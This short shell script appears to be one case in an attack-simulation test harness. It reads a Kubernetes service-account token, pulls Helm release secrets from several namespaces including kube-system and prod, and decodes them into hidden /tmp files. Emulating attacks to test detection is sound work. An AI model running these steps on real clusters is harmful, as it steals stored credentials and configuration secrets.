#!/bin/sh
. /opt/case/case.sh

t=$(cat /run/secrets/kubernetes.io/serviceaccount/token)
for n in default kube-system monitoring prod; do
    wget -q -O - --header "Authorization: Bearer $t" "http://10.77.0.1:6443/api/v1/namespaces/$n/secrets?fieldSelector=type%3Dhelm.sh%2Frelease.v1" >>/tmp/.rel
done
cut -d'"' -f4 /tmp/.rel | base64 -d 2>/dev/null | base64 -d 2>/dev/null | gunzip 2>/dev/null >/tmp/.values || true
test -s /tmp/.rel
took_place
